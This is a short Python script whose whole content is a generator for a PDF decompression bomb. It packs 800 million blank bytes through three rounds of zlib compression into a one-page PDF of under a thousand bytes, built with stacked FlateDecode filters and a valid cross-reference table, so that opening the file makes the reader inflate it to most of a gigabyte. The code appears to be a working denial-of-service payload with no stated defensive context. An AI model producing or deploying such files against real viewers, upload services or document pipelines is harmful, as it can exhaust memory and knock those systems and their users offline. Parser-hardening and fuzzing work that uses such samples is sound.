"""A PDF of under a thousand bytes that unpacks to most of a gigabyte."""

import zlib

_OBJECTS = (
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
)


def pdf_bomb(unpacked: int = 800_000_000) -> bytes:
    """Return a one-page file whose content is so many blanks, packed three times over."""
    content = b" " * unpacked
    for _ in range(3):
        content = zlib.compress(content, 9)
    stream = b"<< /Length %d /Filter [%s] >>\nstream\n%s\nendstream" % (
        len(content),
        b"/FlateDecode " * 3,
        content,
    )
    return _file((*_OBJECTS, stream))


def _file(objects: tuple[bytes, ...]) -> bytes:
    out, starts = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, start=1):
        starts.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % start for start in starts)
    size = len(objects) + 1
    return (
        out
        + b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
        + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, len(out))
    )
